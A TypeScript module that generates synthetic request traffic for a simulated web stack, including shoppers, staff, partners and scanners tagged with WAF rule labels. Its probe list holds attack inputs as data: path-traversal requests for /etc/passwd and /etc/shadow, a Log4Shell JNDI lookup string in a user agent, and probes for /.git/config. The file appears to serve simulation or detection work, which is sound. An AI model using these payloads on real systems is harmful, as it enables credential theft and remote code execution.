import { Prng } from './prng';
import type { ClientRequest, Principal, TrafficKind, WafSignature } from './stack-model';
import {
  BROWSER_AGENTS, GEO_NETWORKS, SERVICES, SITE_HOST, TENANTS, type GeoNetwork, type ServiceDef,
} from './stack-world';

/** A random host address inside a GeoIP network (IPv4 CIDR, or IPv6 /40–/48 with no zero groups, RFC 5952 text). */
export function addressIn(net: string, rng: Prng): string {
  const [base, bitsText] = net.split('/');
  const bits = Number(bitsText);
  if (!base.includes(':')) {
    const o = base.split('.').map(Number);
    const n = ((o[0] << 24) | (o[1] << 16) | (o[2] << 8) | o[3]) >>> 0;
    const size = 2 ** (32 - bits);
    const a = n + rng.range(1, size - 2);
    return `${a >>> 24}.${(a >>> 16) & 255}.${(a >>> 8) & 255}.${a & 255}`;
  }
  const groups = base.replace(/::$/, '').split(':').map((g) => parseInt(g, 16));
  if (bits === 40) groups[2] = (groups[2] & 0xff00) | rng.range(1, 255);
  while (groups.length < 8) groups.push(rng.range(1, 0xffff));
  return groups.map((g) => g.toString(16)).join(':');
}

const CONSUMER = GEO_NETWORKS.filter((n) => n.use === 'consumer').map((n) => [n, n.weight] as const);
const HOSTING = GEO_NETWORKS.filter((n) => n.use === 'hosting');
const OFFICES = GEO_NETWORKS.filter((n) => n.use === 'office');
const svc = (name: string): ServiceDef => SERVICES.find((s) => s.name === name)!;

const SEARCH_TERMS = ['rain%20jacket', 'usb-c%20hub', 'desk%20lamp', 'espresso', 'hiking%20boots', 'notebook', 'gift%20card'];
const SCANNER_AGENTS = ['Mozilla/5.0 zgrab/0.x', 'curl/8.5.0', 'Go-http-client/1.1', 'python-requests/2.31.0'];
const PARTNER_AGENT = 'example-partner-sync/2.1 (+https://partner.example.net/bot)';
const MONITOR_AGENT = 'Prometheus/2.51.2';
const ROLE_MIX: ReadonlyArray<readonly [string, number]> = [['customer', 70], ['invoice-editor', 14], ['finance-viewer', 10], ['support', 6]];

/** A scanner's probe: path, query, user agent, signature (null when no managed rule matches). */
interface Probe { path: string; query: string; ua: string | null; sig: WafSignature | null }
const crs = (ruleId: string, label: string): WafSignature => ({ group: 'crs', ruleId, label: `awswaf:managed:aws:core-rule-set:${label}` });
const PROBES: readonly Probe[] = [
  { path: '/', query: '', ua: null, sig: crs('NoUserAgent_HEADER', 'NoUserAgent_Header') },
  { path: '/v1/catalog/items', query: 'page=1', ua: null, sig: crs('NoUserAgent_HEADER', 'NoUserAgent_Header') },
  { path: '/v1/catalog/items', query: 'image=..%2F..%2F..%2F..%2Fetc%2Fpasswd', ua: 'curl/8.5.0', sig: crs('GenericLFI_QUERYARGUMENTS', 'GenericLFI_QueryArguments') },
  { path: '/static/../../../../etc/shadow', query: '', ua: 'Go-http-client/1.1', sig: crs('GenericLFI_URIPATH', 'GenericLFI_URIPath') },
  { path: '/logs/error.log', query: '', ua: 'Mozilla/5.0 zgrab/0.x', sig: crs('RestrictedExtensions_URIPATH', 'RestrictedExtensions_URIPath') },
  { path: '/api/v2/status', query: '', ua: '${jndi:ldap://203.0.113.250:1389/x}', sig: { group: 'kbi', ruleId: 'Log4JRCE_HEADER', label: 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header' } },
  { path: '/wp-login.php', query: '', ua: 'Mozilla/5.0 zgrab/0.x', sig: null },
  { path: '/.git/config', query: '', ua: 'python-requests/2.31.0', sig: null },
];

/**
 * Builds client requests for the background populations: shoppers and business users on consumer
 * networks, support agents in the offices, partner integrations, scanners, /admin/ and /internal/
 * probes. Bounded state: a fixed pool of principals.
 */
export class TrafficSource {
  private readonly principals: Principal[] = [];
  private readonly staticAsset: string;

  constructor(private readonly rng: Prng) {
    for (let i = 0; i < 400; i++) {
      const role = rng.weighted(ROLE_MIX);
      this.principals.push({ id: `usr_${rng.base36(10)}`, roles: [role], tenant: role === 'support' ? 't_internal' : rng.pick(TENANTS) });
    }
    this.staticAsset = `app.${rng.hex(8)}`;
  }

  /** The next background request arriving at `t` (epoch ms). */
  next(t: number): ClientRequest {
    const kind = this.rng.weighted<TrafficKind>([
      ['browse', 95.2], ['agent', 2], ['integration', 1], ['scanner', 1.1], ['admin-probe', 0.35], ['internal-probe', 0.35],
    ]);
    switch (kind) {
      case 'agent': return this.agent(t);
      case 'integration': return this.integration(t);
      case 'scanner': return this.scanner(t);
      case 'admin-probe': return this.adminProbe(t);
      case 'internal-probe': return this.internalProbe(t);
      default: return this.browse(t);
    }
  }

  /** A credential-stuffing attempt from a bot session's address. */
  loginAttempt(t: number, ip: string, net: GeoNetwork): ClientRequest {
    return this.base(t, 'login-bot', ip, net, 'POST', '/v1/auth/login', '', {
      httpVersion: 'HTTP/1.1', userAgent: 'python-requests/2.31.0', referer: null, accept: 'application/json',
      contentType: 'application/json', bodyBytes: this.rng.range(60, 90), service: svc('auth-service'), permission: 'auth.login',
    });
  }

  /** A hosting network and an address in it (scanners, login bots). */
  hostingAddress(): { ip: string; net: GeoNetwork } {
    const net = this.rng.pick(HOSTING);
    return { ip: addressIn(net.network, this.rng), net };
  }

  private browse(t: number): ClientRequest {
    const r = this.rng;
    const net = r.weighted(CONSUMER);
    const ip = addressIn(net.network, r);
    const ua = r.pick(BROWSER_AGENTS);
    const user = this.principalFor(r.weighted([['customer', 70], ['invoice-editor', 18], ['finance-viewer', 12]] as const));
    const item = () => `ITEM-${String(r.range(1, 4999)).padStart(5, '0')}`;
    const inv = () => `inv_${r.base36(8)}`;
    const get = { bodyBytes: 0, contentType: null };
    const json = (lo: number, hi: number) => ({ bodyBytes: r.range(lo, hi), contentType: 'application/json' });
    const route = r.weighted<string>([
      ['list', 16], ['item', 20], ['static', 8], ['search', 10], ['cart', 6], ['cart-add', 5], ['checkout', 2], ['profile', 4],
      ['profile-put', 1.2], ['invoices', 4], ['invoice', 3], ['invoice-create', 2], ['invoice-update', 2], ['invoice-delete', 0.6],
      ['report', 1.5], ['login', 3], ['cross-tenant', 0.3], ['viewer-write', 0.1],
    ]);
    const o = { referer: `https://${SITE_HOST}/`, userAgent: ua, httpVersion: 'HTTP/2.0' as const, accept: 'application/json' };
    switch (route) {
      case 'list': return this.base(t, 'browse', ip, net, 'GET', '/v1/catalog/items', `page=${r.range(1, 40)}&limit=24`, { ...o, ...get, service: svc('catalog-service'), permission: 'catalog.read', cacheable: true });
      case 'item': return this.base(t, 'browse', ip, net, 'GET', `/v1/catalog/items/${item()}`, '', { ...o, ...get, service: svc('catalog-service'), permission: 'catalog.read', cacheable: true });
      case 'static': return this.base(t, 'browse', ip, net, 'GET', `/static/js/${this.staticAsset}.js`, '', { ...o, ...get, accept: '*/*', service: null, permission: null, cacheable: true });
      case 'search': return this.base(t, 'browse', ip, net, 'GET', '/v1/search', `q=${r.pick(SEARCH_TERMS)}`, { ...o, ...get, service: svc('search-service'), permission: 'search.read' });
      case 'login': return this.base(t, 'browse', ip, net, 'POST', '/v1/auth/login', '', { ...o, ...json(60, 90), service: svc('auth-service'), permission: 'auth.login' });
      case 'cart': return this.signedIn(t, ip, net, o, this.principalFor('customer'), 'GET', '/v1/cart', '', 'cart-service', 'cart.read', get);
      case 'cart-add': return this.signedIn(t, ip, net, o, this.principalFor('customer'), 'POST', '/v1/cart/items', '', 'cart-service', 'cart.write', json(40, 200));
      case 'checkout': return this.signedIn(t, ip, net, o, this.principalFor('customer'), 'POST', '/v1/checkout', '', 'checkout-service', 'checkout.create', json(300, 1500));
      case 'profile': return this.signedIn(t, ip, net, o, user, 'GET', '/v1/account/profile', '', 'account-service', 'account.read', get);
      case 'profile-put': {
        const big = r.chance(0.08);
        const req = this.signedIn(t, ip, net, o, user, 'PUT', '/v1/account/profile', '', 'account-service', 'account.update', big ? json(9000, 24000) : json(200, 900));
        req.oversizedBody = big;
        return req;
      }
      case 'invoices': return this.signedIn(t, ip, net, o, this.principalFor(r.pick(['invoice-editor', 'finance-viewer'])), 'GET', '/v1/invoices', `status=${r.pick(['open', 'paid', 'overdue'])}&limit=50`, 'invoice-service', 'invoices.read', get);
      case 'invoice': return this.signedIn(t, ip, net, o, this.principalFor(r.pick(['invoice-editor', 'finance-viewer'])), 'GET', `/v1/invoices/${inv()}`, '', 'invoice-service', 'invoices.read', get);
      case 'invoice-create': return this.signedIn(t, ip, net, o, this.principalFor('invoice-editor'), 'POST', '/v1/invoices', '', 'invoice-service', 'invoices.create', json(400, 2500));
      case 'invoice-update': return this.signedIn(t, ip, net, o, this.principalFor('invoice-editor'), 'PUT', `/v1/invoices/${inv()}`, '', 'invoice-service', 'invoices.update', json(200, 1800));
      case 'invoice-delete': return this.signedIn(t, ip, net, o, this.principalFor('invoice-editor'), 'DELETE', `/v1/invoices/${inv()}`, '', 'invoice-service', 'invoices.delete', get);
      case 'report': return this.signedIn(t, ip, net, o, this.principalFor('finance-viewer'), 'GET', '/v1/reports/monthly', `month=2024-0${r.range(1, 9)}`, 'report-service', 'reports.read', get);
      case 'viewer-write': return this.signedIn(t, ip, net, o, this.principalFor('finance-viewer'), 'PUT', `/v1/invoices/${inv()}`, '', 'invoice-service', 'invoices.update', json(200, 900));
      default: { // cross-tenant: a business user opens another tenant's invoice
        const p = this.principalFor('invoice-editor');
        const req = this.signedIn(t, ip, net, o, p, 'GET', `/v1/invoices/${inv()}`, '', 'invoice-service', 'invoices.read', get);
        req.resourceTenant = TENANTS[(TENANTS.indexOf(p.tenant) + 1 + r.int(TENANTS.length - 1)) % TENANTS.length];
        return req;
      }
    }
  }

  private agent(t: number): ClientRequest {
    const net = this.rng.pick(OFFICES);
    const path = this.rng.pick(['/admin/api/orders', '/admin/api/customers']);
    return this.signedIn(t, addressIn(net.network, this.rng), net,
      { referer: `https://${SITE_HOST}/admin/`, userAgent: this.rng.pick(BROWSER_AGENTS.slice(0, 3)), httpVersion: 'HTTP/2.0', accept: 'application/json' },
      this.principalFor('support'), 'GET', path, path.endsWith('orders') ? 'status=open&limit=25' : 'limit=25', 'admin-portal',
      path.endsWith('orders') ? 'admin.orders.read' : 'admin.customers.read', { bodyBytes: 0, contentType: null });
  }

  private integration(t: number): ClientRequest {
    const net = GEO_NETWORKS.find((n) => n.network === '198.51.100.80/28')!;
    const req = this.base(t, 'integration', addressIn(net.network, this.rng), net, 'GET', '/v1/catalog/items', `updated_since=2024-01-01T00%3A00%3A00Z&page=${this.rng.range(1, 9)}`, {
      httpVersion: 'HTTP/1.1', userAgent: PARTNER_AGENT, referer: null, accept: 'application/json', contentType: null, bodyBytes: 0,
      service: svc('catalog-service'), permission: 'catalog.read',
    });
    req.clientTraceRoot = `1-${Math.floor(t / 1000).toString(16).padStart(8, '0')}-${this.rng.hex(24)}`;
    return req;
  }

  private scanner(t: number): ClientRequest {
    const { ip, net } = this.hostingAddress();
    const p = this.rng.pick(PROBES);
    const req = this.base(t, 'scanner', ip, net, 'GET', p.path, p.query, {
      httpVersion: 'HTTP/1.1', userAgent: p.ua, referer: null, accept: '*/*', contentType: null, bodyBytes: 0,
      service: p.path.startsWith('/v1/catalog') ? svc('catalog-service') : null, permission: p.path.startsWith('/v1/catalog') ? 'catalog.read' : null,
    });
    req.signature = p.sig;
    return req;
  }

  private adminProbe(t: number): ClientRequest {
    const hosting = this.rng.chance(0.6);
    const net = hosting ? this.rng.pick(HOSTING) : this.rng.weighted(CONSUMER);
    const path = this.rng.pick(['/admin/', '/admin/login', '/admin/api/orders', '/admin/config.json']);
    return this.base(t, 'admin-probe', addressIn(net.network, this.rng), net, 'GET', path, '', {
      httpVersion: hosting ? 'HTTP/1.1' : 'HTTP/2.0', userAgent: hosting ? this.rng.pick(SCANNER_AGENTS) : this.rng.pick(BROWSER_AGENTS),
      referer: null, accept: hosting ? '*/*' : 'text/html', contentType: null, bodyBytes: 0, service: svc('admin-portal'), permission: 'admin.read',
    });
  }

  private internalProbe(t: number): ClientRequest {
    const monitor = this.rng.chance(0.5);
    const net = monitor ? GEO_NETWORKS.find((n) => n.network === '198.51.100.80/28')! : this.rng.pick(HOSTING);
    const path = monitor ? '/internal/metrics' : this.rng.pick(['/internal/health', '/internal/debug/vars', '/internal/config']);
    return this.base(t, 'internal-probe', addressIn(net.network, this.rng), net, 'GET', path, '', {
      httpVersion: 'HTTP/1.1', userAgent: monitor ? MONITOR_AGENT : this.rng.pick(SCANNER_AGENTS), referer: null,
      accept: monitor ? 'text/plain' : '*/*', contentType: null, bodyBytes: 0, service: null, permission: null,
    });
  }

  private principalFor(role: string): Principal {
    for (;;) {
      const p = this.principals[this.rng.int(this.principals.length)];
      if (p.roles[0] === role) return p;
    }
  }

  private signedIn(
    t: number, ip: string, net: GeoNetwork,
    o: { referer: string | null; userAgent: string; httpVersion: 'HTTP/2.0' | 'HTTP/1.1'; accept: string },
    principal: Principal, method: string, path: string, query: string, service: string, permission: string,
    body: { bodyBytes: number; contentType: string | null },
  ): ClientRequest {
    const req = this.base(t, 'browse', ip, net, method, path, query, { ...o, ...body, service: svc(service), permission });
    req.principal = principal;
    if (service === 'admin-portal') req.kind = 'agent';
    return req;
  }

  private base(
    t: number, kind: TrafficKind, ip: string, net: GeoNetwork, method: string, path: string, query: string,
    o: Pick<ClientRequest, 'httpVersion' | 'userAgent' | 'referer' | 'accept' | 'contentType' | 'bodyBytes' | 'service' | 'permission'> & { cacheable?: boolean },
  ): ClientRequest {
    return {
      t, kind, ip, net, method, path, query, principal: null, resourceTenant: null, clientTraceRoot: null, signature: null,
      oversizedBody: false, ...o, cacheable: o.cacheable ?? false,
    };
  }
}
